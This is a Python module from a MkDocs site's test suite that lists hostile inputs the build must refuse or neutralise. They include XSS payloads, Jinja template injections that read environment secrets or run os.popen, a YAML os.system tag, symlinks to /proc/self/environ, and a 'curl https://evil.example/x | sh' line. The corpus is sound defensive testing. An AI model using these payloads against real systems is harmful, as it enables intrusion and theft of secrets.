"""The hostile-input corpus: what a stranger's pull request could put in data/ or docs/.

Each payload goes into one place of a copy of the real repository (a field of one entry of a
data file, or the end of a hand-written page) and is run through a real `mkdocs build --strict`
by tests/test_hostile.py. Two outcomes count as safe:

- "refused": the build stops with the usual Dutch message (file, line, entry, field and the
  fix), and `says` is part of it;
- "inert": the build succeeds and, in Chromium, every element that carries the payload's
  marker (XSSnn) is hovered and clicked: no dialog opens, no element has an event-handler
  attribute, no link goes to a script URL, no Content-Security-Policy violation is reported
  (the sanitiser, not the CSP, must have stopped it).

`where` is "data/<file>#<id>.<field>" (a strategy: "data/ambities.yml#<ambition>/<strategy>.<field>";
a list field takes the value as its first element), "docs/<page>.md" (appended to the page), or
a data file with `raw` set: the payload is the file itself (alias bombs, nesting, encodings).
"""
from __future__ import annotations

from dataclasses import dataclass
from pathlib import Path
from typing import Optional


@dataclass(frozen=True)
class Payload:
    id: str
    family: str
    where: str
    value: str
    expect: str  # "refused" or "inert"
    says: Optional[str] = None  # part of the refusal message
    page: Optional[str] = None  # where to look for an inert payload (site-relative)
    raw: Optional[str] = None  # "file": `value` is the whole file; "latin-1": the file saved as Latin-1 (more below)


STEP = "data/stappen.yml#behoefte"
TERM = "data/begrippen.yml#levenscyclusanalyse"
RESOURCE = "data/bronnen.yml#mvoo-criteriatool"
EXAMPLE = "data/voorbeelden.yml#zas-hechtsets"
PITFALL = "data/valkuilen.yml#greenwashing"
STRATEGY = "data/ambities.yml#minder-materiaal/delen"
CRITERION = "data/criteria/textiel.yml#textiel-maatvast-kleurvast"
THEME = "data/themas.yml#textiel"
HTML = "bevat HTML"
SCHEME = "Alleen webadressen (https://...)"

PAYLOADS = [
    # --- event handlers -------------------------------------------------------------------
    Payload("img-onerror", "event handler", f"{STEP}.samenvatting", "Tekst <img src=x onerror=alert('XSS01')>", "refused", HTML),
    Payload("svg-onload", "event handler", f"{PITFALL}.kort", "<svg/onload=alert('XSS02')>", "refused", HTML),
    Payload("attr-list-line", "event handler", f"{STEP}.waarom", "Tekst XSS03\n{: onmouseover=\"alert('XSS03')\" }", "refused", "accolades"),
    Payload("attr-list-inline", "event handler", f"{STRATEGY}.beschrijving", "[XSS04](https://example.org){: onclick=\"alert(1)\" }", "refused", "accolades"),
    Payload("attr-list-in-plain-text", "event handler", f"{STEP}.kernvraag", "Vraag XSS05?\n{: onmouseover=\"alert('XSS05')\" }", "inert", page="stappen/behoefte.html"),
    Payload("details-ontoggle", "event handler", f"{EXAMPLE}.wat", "<details open ontoggle=alert('XSS06')>x</details>", "refused", HTML),
    Payload("md-in-html", "event handler", f"{TERM}.toelichting", "<div markdown onclick=alert('XSS07')>x</div>", "refused", HTML),
    Payload("mixed-case-script", "event handler", f"{RESOURCE}.beschrijving", "<ScRiPt>alert('XSS08')</sCrIpT>", "refused", HTML),
    Payload("style-element", "event handler", f"{STEP}.te_doen", "Doe iets XSS09 <style>body{display:none}</style>", "refused", HTML),
    # --- script URLs ----------------------------------------------------------------------
    Payload("javascript-url", "script URL", f"{STEP}.samenvatting", "[XSS10](javascript:alert(1))", "refused", SCHEME),
    Payload("javascript-favicon", "script URL", f"{STEP}.samenvatting",
            "[XSS11](javascript:alert(1)//../assets/images/favicon.png)", "refused", SCHEME),
    Payload("javascript-mixed-case", "script URL", f"{PITFALL}.werkelijkheid", "[XSS12](JaVaScRiPt:alert(1))", "refused", SCHEME),
    Payload("javascript-tab-entity", "script URL", f"{PITFALL}.werkelijkheid", "[XSS13](java&#x09;script:alert(1))", "refused", SCHEME),
    Payload("javascript-decimal-entity", "script URL", f"{PITFALL}.werkelijkheid", "[XSS14](&#106;avascript:alert(1))", "refused", SCHEME),
    Payload("javascript-named-colon", "script URL", f"{PITFALL}.werkelijkheid", "[XSS15](javascript&colon;alert(1))", "refused", SCHEME),
    Payload("javascript-angle", "script URL", f"{STRATEGY}.beschrijving", "[XSS16](<javascript:alert(1)>)", "refused", HTML),
    Payload("javascript-leading-space", "script URL", f"{STRATEGY}.beschrijving", "[XSS17]( javascript:alert(1))", "refused", SCHEME),
    Payload("vbscript-url", "script URL", f"{STRATEGY}.beschrijving", "[XSS18](vbscript:msgbox(1))", "refused", SCHEME),
    Payload("nested-brackets", "script URL", f"{STEP}.waarom", "[[[XSS19]]](javascript:alert(1))", "refused", SCHEME),
    Payload("reference-prefix-case", "script URL", f"{STEP}.waarom", "[XSS20](Bron:mvoo-criteriatool)", "refused", "Bedoelde je 'bron:mvoo-criteriatool'?"),
    # --- data: URLs -----------------------------------------------------------------------
    Payload("data-html", "data URL", f"{EXAMPLE}.wat",
            "[XSS21](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "refused", SCHEME),
    Payload("data-svg-image", "data URL", f"{EXAMPLE}.wat", "![XSS22](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E)", "refused",
            "afbeelding die niet van de site zelf komt"),
    # --- SVG ------------------------------------------------------------------------------
    Payload("svg-script", "SVG", f"{TERM}.toelichting", "<svg><script>alert('XSS23')</script></svg>", "refused", HTML),
    Payload("url-field-breakout", "SVG", f"{RESOURCE}.url", "https://example.org/a)<svg/onload=alert('XSS24')>", "refused",
            "dat niet in een webadres hoort"),
    # --- reference-style links ------------------------------------------------------------
    Payload("reference-definition", "reference link", f"{STEP}.samenvatting", "[XSS25][x]\n\n[x]: javascript:alert(1)", "refused",
            "linkdefinitie"),
    Payload("reference-definition-alone", "reference link", f"{PITFALL}.kort", "XSS26\n\n[x]: javascript:alert(1)", "refused", "linkdefinitie"),
    Payload("abbreviation-definition", "reference link", f"{PITFALL}.kort",
            "Tekst XSS27\n\n*[Tekst]: <img src=x onerror=alert(1)>", "refused", HTML),
    Payload("abbreviation-definition-plain", "reference link", f"{PITFALL}.kort", "Tekst\n\n*[Tekst]: XSS28 uitleg", "refused",
            "afkortingsdefinitie"),
    # --- autolinks ------------------------------------------------------------------------
    Payload("autolink-javascript", "autolink", f"{EXAMPLE}.wat", "<javascript:alert('XSS29')>", "refused", HTML),
    Payload("autolink-quote-breakout", "autolink", f"{EXAMPLE}.wat",
            "Zie <https://example.org/XSS30\"onmouseover=\"alert(1)>", "inert", page="voorbeelden.html"),
    # --- HTML comments --------------------------------------------------------------------
    Payload("comment", "HTML comment", f"{STEP}.waarom", "Tekst <!-- <img src=x onerror=alert('XSS31')> -->", "refused",
            "HTML-commentaar"),
    Payload("comment-unclosed", "HTML comment", f"{STEP}.waarom", "Tekst <!-- XSS32", "refused", "HTML-commentaar"),
    # --- title and attribute breakouts ----------------------------------------------------
    Payload("link-title-entity-tag", "title breakout", f"{STEP}.samenvatting",
            "[XSS33](https://example.org \"&lt;img src=x onerror=alert(1)&gt;\")", "refused", "titel"),
    Payload("link-title-quote", "title breakout", f"{STEP}.samenvatting",
            "[XSS34](https://example.org \"x\" onmouseover=\"alert(1)\")", "refused", "titel"),
    Payload("definition-tag", "title breakout", f"{TERM}.definitie", "LCA <img src=x onerror=alert('XSS35')>", "refused", "'<' of '>'"),
    Payload("definition-entity-tag", "title breakout", f"{TERM}.definitie",
            "XSS36 &lt;img src=x onerror=alert(1)&gt; uitleg", "inert", page="valkuilen/aankoopprijs.html"),
    Payload("title-quote", "title breakout", f"{STEP}.titel", "Behoefte XSS37\" onmouseover=\"alert(1)", "inert",
            page="stappen/behoefte.html"),
    Payload("title-tag", "title breakout", f"{STEP}.titel", "Behoefte \"><img src=x onerror=alert('XSS38')>", "refused",
            "'<' of '>'"),
    Payload("url-quote", "title breakout", f"{EXAMPLE}.bron", "https://example.org/\"onmouseover=\"alert('XSS39')", "refused",
            "dat niet in een webadres hoort"),
    Payload("alias-bracket", "title breakout", f"{TERM}.aliassen", "LCA]: XSS40 <b>x</b>", "refused", "'<' of '>'"),
    Payload("alias-bracket-plain", "title breakout", f"{TERM}.aliassen", "LC]A XSS41", "refused", "'[' of ']'"),
    Payload("entity-script-text", "title breakout", f"{PITFALL}.werkelijkheid",
            "XSS42 &lt;script&gt;alert(1)&lt;/script&gt;", "inert", page="valkuilen/greenwashing.html"),
    # --- privacy: images from elsewhere, protocol-relative links ---------------------------
    Payload("tracking-pixel", "other host", f"{STEP}.waarom", "![XSS43](https://tracker.example/p.png)", "refused",
            "afbeelding die niet van de site zelf komt"),
    Payload("protocol-relative", "other host", f"{STEP}.waarom", "[XSS44](//evil.example/)", "refused", "zonder https:"),
    # --- the file itself: alias bombs, oversized input, bad encodings -----------------------
    Payload("alias-bomb", "alias bomb", "data/themas.yml",
            "# XSS52\n" + "".join(f"- &{chr(97 + i)} [" + ",".join([f"*{chr(96 + i)}"] * 9 if i else ["x"] * 9) + "]\n"
                                    for i in range(9)), "refused", "YAML-ankers en -verwijzingen", raw="file"),
    Payload("nesting", "alias bomb", "data/themas.yml",
            "# XSS53\n- id: textiel\n  naam: " + "[" * 1000 + "]" * 1000 + "\n", "refused", "niveaus diep genest", raw="file"),
    Payload("oversized-file", "oversized input", "data/themas.yml", "# XSS54 " + "x" * 17_000_000 + "\n", "refused",
            "mag hoogstens 16 MB zijn", raw="file"),
    Payload("oversized-field", "oversized input", f"{PITFALL}.werkelijkheid", "XSS55 " + "Lange tekst. " * 500, "refused",
            "hier mogen hoogstens 5000 tekens staan"),
    Payload("oversized-id", "oversized input", f"{PITFALL}.id", "XSS56-" + "a" * 300, "refused", "hoogstens 60 tekens"),
    Payload("latin-1", "bad encoding", "data/themas.yml", "XSS57 patiënten", "refused", "niet opgeslagen als UTF-8",
            raw="latin-1"),
    Payload("nul-byte", "bad encoding", f"{STEP}.samenvatting", "Tekst XSS58 \x00 met een nul", "refused",
            "bevat een teken dat niet in een tekst hoort"),
    Payload("bidi-override", "bad encoding", f"{PITFALL}.kort", "Veilig XSS59 \u202egnp.exe", "refused",
            "bevat een teken dat niet in een tekst hoort"),
    # --- hand-written pages: the sanitiser is the only line (raw HTML is allowed there) -----
    Payload("page-img-onerror", "page HTML", "docs/over.md", "<p>XSS45 <img src=x onerror=alert(1)></p>", "inert", page="over.html"),
    Payload("page-script", "page HTML", "docs/over.md", "<script>alert('XSS46')</script><p>XSS46</p>", "inert", page="over.html"),
    Payload("page-javascript-link", "page HTML", "docs/over.md", "<a href=\"javascript:alert(1)\">XSS47</a>", "inert",
            page="over.html"),
    Payload("page-iframe", "page HTML", "docs/over.md", "<iframe src=\"https://example.org/\"></iframe><p>XSS48</p>", "inert",
            page="over.html"),
    Payload("page-svg-onload", "page HTML", "docs/over.md", "<svg onload=\"alert(1)\" class=\"XSS49\" width=\"40\" height=\"20\"></svg>", "inert",
            page="over.html"),
    Payload("page-form-action", "page HTML", "docs/over.md",
            "<form action=\"https://evil.example/\"><button formaction=\"javascript:alert(1)\">XSS50</button></form>", "inert",
            page="over.html"),
    Payload("page-abbr-title", "page HTML", "docs/over.md",
            "<p><abbr title=\"&lt;img src=x onerror=alert(1)&gt;\">XSS51</abbr></p>", "inert", page="over.html"),
    # --- criteria for a bestek (issue 24): a clause, its placeholders, its source link; a theme's search words ---
    Payload("criterium-img-onerror", "event handler", f"{CRITERION}.tekst", "Tekst XSS80 <img src=x onerror=alert(1)>",
            "refused", HTML),
    Payload("criterium-javascript", "script URL", f"{CRITERION}.tekst", "Vul [XSS81](javascript:alert(1)) in.", "refused",
            SCHEME),
    Payload("criterium-placeholder-link", "other host", f"{CRITERION}.tekst", "Zie [XSS82](https://evil.example/) hier.",
            "refused", "wordt het een link"),
    Payload("criterium-placeholder-reference", "reference link", f"{CRITERION}.tekst", "Zie [XSS83][x] hier.", "refused",
            "wordt het een link"),
    Payload("criterium-source-link", "script URL", f"{CRITERION}.bronlink", "javascript:alert(XSS84)", "refused",
            "geen volledig webadres"),
    Payload("criterium-title-quote", "title breakout", f"{CRITERION}.titel", "Maatvast XSS85\" onmouseover=\"alert(1)", "inert",
            page="themas/textiel.html"),
    Payload("criterium-attr-list", "event handler", f"{CRITERION}.bewijs", "Bewijs XSS86\n{: onclick=\"alert(1)\" }", "refused",
            "accolades"),
    Payload("theme-alias-tag", "title breakout", f"{THEME}.aliassen", "linnen]: XSS87 <b>x</b>", "refused", "'<' of '>'"),
]

# ===============================================================================================# Issue 21, part A: content is not code. Pages, front matter, gadgets, files, symbolic links and
# addresses. Markers XSS101-XSS199. Placeholders: {GEHEIM} is the name of an environment variable the
# build gets with a secret value, {BUITEN} a file outside the repository with a secret content
# (tests/test_hostile.py); neither may ever reach the build's output, the site, the zip or the PDF.
# New ways of injecting (`raw`): "front" adds lines to the page's front matter, "heading" replaces
# its first heading, "prepend" puts a line above everything, "new-file" writes `value` to `where`,
# "symlink" makes `where` a symbolic link to `value`.
# ======================================================================================================

def page_with(marker: str) -> str:
    """The hand-written page (docs/...md) whose source holds `marker` (a tool's script, a macro call):
    the corpus follows a page an editor moved with `make verplaats`."""
    docs = Path(__file__).resolve().parents[1] / "docs"
    found = sorted(p.relative_to(docs.parent).as_posix() for p in docs.rglob("*.md")
                   if marker in p.read_text(encoding="utf-8"))
    assert len(found) == 1, f"'{marker}' staat op {len(found)} pagina's in docs/: verwacht één"
    return found[0]


OVER = "docs/over.md"
JINJA = "Tussen {{ en }} mag alleen een macro van de site staan"
FRONT = page_with("{{ afvinklijsten_overzicht() }}")  # the tools overview
SVG_FIX = "Een SVG-bestand op de site is alleen een tekening"
LINK = "is een symbolische koppeling"
MAILTO = "e-maillink"

PAYLOADS_21A = [
    # --- page Jinja: the page is rendered by nothing but our macros ---------------------------------
    Payload("jinja-environ", "page Jinja", OVER, "XSS101 {{ cycler.__init__.__globals__.os.environ['{GEHEIM}'] }}",
            "refused", JINJA),
    Payload("jinja-popen", "page Jinja", OVER, "XSS102 {{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "refused", JINJA),
    Payload("jinja-macros-info", "page Jinja", OVER, "XSS103 {{ macros_info() }}", "refused", "geen macro van de site"),
    Payload("jinja-write-file", "page Jinja", OVER,
            "XSS104 {% set f = lipsum.__globals__['__builtins__']['open']('docs/assets/javascripts/x.js', 'w') %}"
            "{{ f.write('alert(1)') }}", "refused", "een opdracht in de sjabloontaal"),
    Payload("jinja-include-outside", "page Jinja", OVER, "XSS105 {% include '{BUITEN}' %}", "refused", "een opdracht"),
    Payload("jinja-comment", "page Jinja", OVER, "{# XSS106 #}", "refused", "HTML-commentaar"),
    Payload("jinja-whitespace-control", "page Jinja", OVER, "XSS107 {{- bronnen_lijst() -}}", "refused", JINJA),
    Payload("jinja-config", "page Jinja", OVER, "XSS108 {{ config.repo_url }}", "refused", JINJA),
    Payload("jinja-loop", "page Jinja", OVER, "XSS109 {% for i in range(10**9) %}x{% endfor %}", "refused", "een opdracht"),
    Payload("jinja-huge-string", "page Jinja", OVER, "XSS110 {{ 'x' * 10**9 }}", "refused", JINJA),
    Payload("jinja-in-heading", "page Jinja", OVER, "# Over XSS111 {{ cycler.__init__.__globals__.os.environ }}", "refused",
            JINJA, raw="heading"),
    Payload("jinja-unknown-macro-argument", "page Jinja", OVER, "XSS112 {{ aantal('__class__') }}", "refused",
            "de macro 'aantal' kent '__class__' niet"),
    # --- front matter: known keys, typed values --------------------------------------------------------
    Payload("front-title-refresh", "front matter", OVER,
            "title: '</title><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><title>XSS113'",
            "refused", "'<' of '>'", raw="front"),
    Payload("front-title-refresh-delay", "front matter", FRONT,
            "title: '</title><meta http-equiv=\"refresh\" content=\"20;url=https://evil.example/\"><title>XSS114'",
            "refused", "'<' of '>'", raw="front"),
    Payload("front-description-quote", "front matter", OVER,
            "description: 'XSS115\" http-equiv=\"refresh\" content=\"0;url=https://evil.example/'", "refused",
            "dubbel aanhalingsteken", raw="front"),
    Payload("front-author", "front matter", OVER, "author: '</title><script>alert(\"XSS116\")</script>'", "refused",
            "deze sleutel is niet toegelaten", raw="front"),
    Payload("front-tags-markup", "front matter", OVER, "tags: ['<img src=x onerror=alert(1)>XSS117']", "refused",
            "is geen thema", raw="front"),
    Payload("front-scripts-https", "front matter", OVER, "scripts: ['https://evil.example/XSS118.js']", "refused",
            "is geen script van de site", raw="front"),
    Payload("front-scripts-file", "front matter", OVER, "scripts: ['file://evil.example/XSS119.js']", "refused",
            "is geen script van de site", raw="front"),
    Payload("front-scripts-protocol-relative", "front matter", OVER, "scripts: ['//evil.example/XSS120.js']", "refused",
            "is geen script van de site", raw="front"),
    Payload("front-scripts-redirect", "front matter", OVER, "scripts: ['assets/javascripts/doorverwijzing.js'] # XSS121",
            "refused", "is geen script van de site", raw="front"),
    Payload("front-render-macros", "front matter", OVER, "render_macros: true # XSS122", "refused",
            "alleen 'render_macros: false'", raw="front"),
    Payload("front-macros-key", "front matter", OVER, "macros: {include_yaml: ['{BUITEN}']} # XSS123", "refused",
            "deze sleutel is niet toegelaten", raw="front"),
    Payload("front-meta-lines", "front matter", OVER,
            "title: XSS124 </title><meta http-equiv=refresh content=20;url=https://evil.example/>", "refused",
            "leest MkDocs als paginagegevens", raw="prepend"),
    Payload("front-alias-bomb", "front matter", OVER,
            "a: &a ['XSS125', x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
            "c: [*b, *b, *b, *b, *b, *b, *b, *b, *b]", "refused", "anker", raw="front"),
    # --- meta refresh, with and without a delay: where it is not refused, it is inert -------------------
    Payload("page-meta-refresh", "meta refresh", OVER,
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><p>XSS126</p>", "inert", page="over.html"),
    Payload("page-meta-refresh-delay", "meta refresh", OVER,
            "<meta http-equiv=\"refresh\" content=\"20;url=https://evil.example/\"><p>XSS127</p>", "inert",
            page="over.html"),
    Payload("heading-meta-refresh", "meta refresh", OVER,
            "# Over deze gids XSS128 &lt;/title&gt;&lt;meta http-equiv=\"refresh\" content=\"20;url=https://evil.example/\"&gt;",
            "inert", page="over.html", raw="heading"),
    # --- gadgets: what our scripts and Material's look up -----------------------------------------------
    Payload("gadget-config", "gadget", OVER,
            "<div id=\"__config\">{\"base\": \"https://evil.example/\", \"search\": \"https://evil.example/w.js\"} XSS129</div>",
            "inert", page="over.html"),
    Payload("gadget-clipboard", "gadget", OVER,
            "<button class=\"md-clipboard md-icon\" data-clipboard-text=\"curl https://evil.example/x | sh\">XSS130</button>",
            "inert", page="over.html"),
    Payload("gadget-redirect", "gadget", OVER, "<a href=\"https://evil.example/\" data-doorverwijzing>XSS131</a>", "inert",
            page="over.html"),
    Payload("gadget-heading-config", "gadget", f"{STEP}.waarom", "Tekst.\n\n## __config\n\nXSS132 meer tekst.", "inert",
            page="stappen/behoefte.html"),
    Payload("gadget-component", "gadget", OVER,
            "<div data-md-component=\"outdated\" data-md-state=\"x\">XSS133</div>", "inert", page="over.html"),
    Payload("gadget-mermaid", "gadget", OVER, "<pre class=\"mermaid\">graph TD; A--&gt;B; XSS134</pre>", "inert",
            page="over.html"),
    Payload("gadget-attr-list-id", "gadget", OVER, "## Kop XSS135 { #__drawer }", "inert", page="over.html"),
    Payload("gadget-label-search", "gadget", OVER, "<label for=\"__search\" class=\"md-search__input\">XSS136</label>",
            "inert", page="over.html"),
    Payload("gadget-tool-id", "gadget", page_with("assets/javascripts/aankoopwijzer.js"),
            "<div id=\"wijzer-gegevens\" data-json='{}'>XSS137</div>", "refused", "staat 2 keer op de pagina"),
    # --- files beside the pages ------------------------------------------------------------------------
    Payload("file-svg-script", "file", "docs/assets/images/XSS138.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert('XSS138')</script></svg>", "refused", SVG_FIX,
            raw="new-file"),
    Payload("file-svg-onload", "file", "docs/assets/images/logo.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert('XSS139')\"/>", "refused", "gebeurtenis",
            raw="new-file"),
    Payload("file-svg-foreign", "file", "docs/assets/images/logo.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"https://evil.example/XSS140.png\"/></svg>", "refused",
            SVG_FIX, raw="new-file"),
    Payload("file-svg-entity", "file", "docs/assets/images/logo.svg",
            "<!DOCTYPE svg [<!ENTITY x SYSTEM \"{BUITEN}\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x; XSS141</text></svg>",
            "refused", "DOCTYPE", raw="new-file"),
    Payload("file-htm", "file", "docs/XSS142.htm", "<html><body><script>alert(1)</script></body></html>", "refused",
            "bestandstype", raw="new-file"),
    Payload("file-html-beside", "file", page_with("assets/javascripts/aankoopwijzer.js").rsplit("/", 1)[0] + "/rekenaar.html", "<script src=\"x.js\"></script>XSS143", "refused",
            "bestandstype", raw="new-file"),
    Payload("file-python", "file", "docs/main.py", "import os  # XSS144", "refused", "bestandstype", raw="new-file"),
    # --- symbolic links ----------------------------------------------------------------------------------
    Payload("link-environ", "symlink", "docs/assets/XSS145.txt", "/proc/self/environ", "refused", LINK, raw="symlink"),
    Payload("link-outside-page", "symlink", "docs/XSS146.md", "{BUITEN}", "refused", LINK, raw="symlink"),
    Payload("link-data-file", "symlink", "data/XSS147.yml", "{BUITEN}", "refused", LINK, raw="symlink"),
    Payload("link-folder", "symlink", "docs/assets/XSS148", "/etc", "refused", LINK, raw="symlink"),
    # --- addresses: judged as the browser reads them -------------------------------------------------------
    Payload("backslash-image", "address", f"{STEP}.waarom", "![XSS149](/\\evil.example/p.png)", "refused",
            "afbeelding die niet van de site zelf komt"),
    Payload("backslash-link", "address", f"{STEP}.waarom", "[XSS150](/\\evil.example/)", "refused", "zonder https:"),
    Payload("mailto-cc", "address", f"{PITFALL}.werkelijkheid", "[XSS151](mailto:info@voorbeeld.be?cc=iemand@evil.example)",
            "refused", MAILTO),
    Payload("mailto-header-break", "address", f"{PITFALL}.werkelijkheid",
            "[XSS152](mailto:info@voorbeeld.be?subject=Hallo%0D%0ABcc:iemand@evil.example)", "refused", "regeleinde"),
    Payload("mailto-two", "address", f"{PITFALL}.werkelijkheid", "[XSS153](mailto:info@voorbeeld.be,iemand@evil.example)",
            "refused", MAILTO),
    Payload("page-backslash-image", "address", OVER, "<p><img src=\"/\\evil.example/p.png\" alt=\"x\">XSS154</p>", "inert",
            page="over.html"),
    Payload("page-tab-image", "address", OVER, "<p><img src=\" \t/\t/evil.example/p.png\" alt=\"x\">XSS155</p>", "inert",
            page="over.html"),
    Payload("page-mailto-bcc", "address", OVER, "<a href=\"mailto:info@voorbeeld.be?bcc=iemand@evil.example&amp;body=x\">XSS156</a>",
            "inert", page="over.html"),
    Payload("page-backslash-link", "address", OVER, "<a href=\"\\\\evil.example\\pad\">XSS157</a>", "inert", page="over.html"),
    Payload("page-root-image", "address", OVER, "<p><img src=\"/etc/hostname\" alt=\"XSS158\">afbeelding</p>", "inert",
            page="over.html"),
    # Material writes a menu or table-of-contents entry that does not fit into a tooltip as HTML.
    Payload("toc-heading-meta-refresh", "meta refresh", f"{STEP}.samenvatting",
            "Tekst.\n\n## XSS159 een heel lange kop die niet in de inhoudstafel past &lt;meta http-equiv=\"refresh\" "
            "content=\"0;url=https://evil.example/\"&gt; en nog wat meer woorden\n\nMeer tekst.", "inert",
            page="stappen/behoefte.html"),
]

PAYLOADS = PAYLOADS + PAYLOADS_21A


# === Issue 21, sections 6 to 8 (h21b) ====================================================================
# What no output may hold, slow and hungry inputs, and every way to a traceback or an English message.
# All refused by the data check with one Dutch message; none reaches feed.xml, the open data or the PDF.
# Markers XSS2nn (three digits: marker() in tests/test_hostile.py reads them whole).
# New `raw` kinds: "yaml" (the value is written as YAML, unquoted, into the field), "utf-16" (the file
# saved as UTF-16), "map" (the file is a folder), "link" (the file is a symbolic link to a copy outside
# the repository), "link-map" (data/ itself is a link to a copy elsewhere).


def _first_note() -> str:
    """The id of the first change note: a payload aimed at it follows the data, whatever editors rename."""
    from pathlib import Path

    import yaml

    notes = yaml.safe_load((Path(__file__).resolve().parent.parent / "data" / "wijzigingen.yml").read_text(encoding="utf-8"))
    return notes[0]["id"]


NOTE = f"data/wijzigingen.yml#{_first_note()}"
NONCHAR = "niet-teken"
TYPE = "type (tag)"

PAYLOADS += [
    # --- section 6: characters XML cannot hold (the feed, the open data, the print page) ---------------------
    Payload("note-fffe", "XML-invalid character", f"{NOTE}.titel", "Nieuw XSS201 \ufffe", "refused", NONCHAR),
    Payload("field-ffff", "XML-invalid character", f"{STEP}.samenvatting", "Tekst XSS202 \uffff", "refused", NONCHAR),
    Payload("control-escaped", "XML-invalid character", f"{PITFALL}.kort", "Tekst XSS203 \x01", "refused",
            "onzichtbaar stuurteken (U+0001)"),
    Payload("note-lone-surrogate", "XML-invalid character", f"{NOTE}.wat", "Tekst XSS204 \ud800", "refused", "halve UTF-16-code"),
    Payload("url-lone-surrogate", "XML-invalid character", f"{RESOURCE}.url", "https://example.org/XSS205\udfff", "refused",
            "halve UTF-16-code"),
    Payload("page-path-fffe", "XML-invalid character", f"{NOTE}.paginas", '["over\\uFFFEXSS206.md"]', "refused", NONCHAR,
            raw="yaml"),
    Payload("control-in-file", "XML-invalid character", "data/themas.yml",
            "- id: t\n  naam: a\x01 XSS207\n  beschrijving: b\n", "refused", "stuurteken (U+0001", raw="file"),
    Payload("fffe-in-file", "XML-invalid character", "data/themas.yml",
            "- id: t\n  naam: a\ufffe XSS208\n  beschrijving: b\n", "refused", "stuurteken (U+FFFE", raw="file"),
    # --- section 7: slow and hungry inputs ------------------------------------------------------------------
    Payload("flow-list-16mb", "oversized input", "data/themas.yml", "# XSS210\n[" + ",".join(["a"] * 7_900_000) + "]\n",
            "refused", "onderdelen (velden, waarden en lijstpunten samen)", raw="file"),
    Payload("many-lines", "oversized input", "data/themas.yml", "# XSS211\n" + "#\n" * 600_000, "refused",
            "regels; een gegevensbestand mag er hoogstens", raw="file"),
    Payload("many-fields", "oversized input", "data/themas.yml",
            "- id: t\n  naam: XSS212\n" + "".join(f"  veld{i}: x\n" for i in range(150)), "refused", "meer dan 100 velden",
            raw="file"),
    Payload("long-list", "oversized input", "data/themas.yml",
            "- id: t\n  naam: XSS213\n  beschrijving: x\n  extra: [" + ",".join(["a"] * 2_000) + "]\n", "refused",
            "meer dan 1000 elementen", raw="file"),
    Payload("broken-entries", "oversized input", "data/themas.yml",
            "# XSS214\n" + "".join(f"- id: t{i}\n  naam: a: b\n" for i in range(4_000)), "refused", "YAML-syntaxfout",
            raw="file"),
    # --- section 8: never a traceback, never English ---------------------------------------------------------
    Payload("int-5000-digits", "message", f"{STEP}.nummer", "1" * 5000 + "  # XSS220", "refused", "geheel getal", raw="yaml"),
    Payload("int-hex-20000-bits", "message", f"{STEP}.nummer", "0x" + "f" * 5000 + "  # XSS221", "refused", "geheel getal",
            raw="yaml"),
    Payload("float-infinite", "message", f"{STEP}.nummer", ".inf  # XSS222", "refused", "geheel getal", raw="yaml"),
    Payload("tag-python-object", "message", f"{STEP}.titel", "!!python/object/apply:os.system ['id']  # XSS223", "refused",
            TYPE, raw="yaml"),
    Payload("tag-int", "message", f"{STEP}.nummer", "!!int abc  # XSS224", "refused", TYPE, raw="yaml"),
    Payload("tag-own", "message", f"{STEP}.titel", "!eigen XSS225", "refused", TYPE, raw="yaml"),
    Payload("escaped-surrogate", "message", f"{STEP}.titel", '"Stap \\ud800 XSS226"', "refused", "halve UTF-16-code", raw="yaml"),
    Payload("date-out-of-range", "message", f"{NOTE}.datum", "10000-01-01  # XSS227", "refused", "JJJJ-MM-DD", raw="yaml"),
    Payload("merge-key", "message", "data/themas.yml", "- id: t\n  <<: {naam: XSS228}\n  beschrijving: b\n", "refused",
            "'<<' voegt in YAML stukken samen", raw="file"),
    Payload("directive", "message", "data/themas.yml", "%TAG ! tag:evil.example,2026:\n---\n- id: t\n  naam: XSS229\n",
            "refused", "YAML-instructie", raw="file"),
    Payload("list-as-key", "message", "data/themas.yml", "- id: t\n  ? [a, b]\n  : XSS230\n", "refused",
            "veldnaam is hier een lijst", raw="file"),
    Payload("duplicate-key", "message", "data/themas.yml", "- id: t\n  naam: a\n  naam: XSS231\n  beschrijving: b\n",
            "refused", "staat twee keer in hetzelfde item", raw="file"),
    Payload("utf-16", "message", "data/themas.yml", "- id: t\n  naam: XSS232\n", "refused", "niet opgeslagen als UTF-8",
            raw="utf-16"),
    Payload("bom-in-field", "message", f"{PITFALL}.kort", "Tekst XSS238 \ufeff verder", "refused",
            "onzichtbaar stuurteken (U+FEFF)"),
    Payload("data-file-is-a-folder", "message", "data/themas.yml", "XSS233", "refused", "is een map, geen bestand", raw="map"),
    # h21a refuses links in docs/ and data/ in the build as well; the data check says it first, in these words.
    Payload("data-file-is-a-link", "message", "data/themas.yml", "- id: t\n  naam: XSS234\n", "refused",
            LINK, raw="link"),
    Payload("data-folder-is-a-link", "message", "data/", "XSS235", "refused", LINK, raw="link-map"),
    Payload("link-check-nested", "message", "data/linkcontrole.json", '{"XSS236": ' + "[" * 100_000 + "]" * 100_000 + "}",
            "refused", "te diep genest", raw="file"),
    Payload("link-check-5000-digits", "message", "data/linkcontrole.json",
            '{"adressen": {"https://example.org/XSS237": ' + "1" * 5000 + "}}", "refused", "te veel cijfers", raw="file"),
]
# Issue 25: the buyer's search words (data/zoekwoorden.yml) reach every page's search dialog and the
# search index: markup or Lunr syntax is refused with the file, line, item and field.
SEARCH_WORDS = "data/zoekwoorden.yml"
NOT_A_SEARCH_WORD = "bevat een teken dat niet in een zoekwoord hoort"
PAYLOADS_25 = [
    Payload("search-topic-markup", "markup", SEARCH_WORDS,
            "zoekwoorden: []\nvaak_gezocht: [\"<img src=x onerror=alert(1)> XSS160\"]\n", "refused",
            NOT_A_SEARCH_WORD, raw="file"),
    Payload("search-expansion-markup", "markup", SEARCH_WORDS,
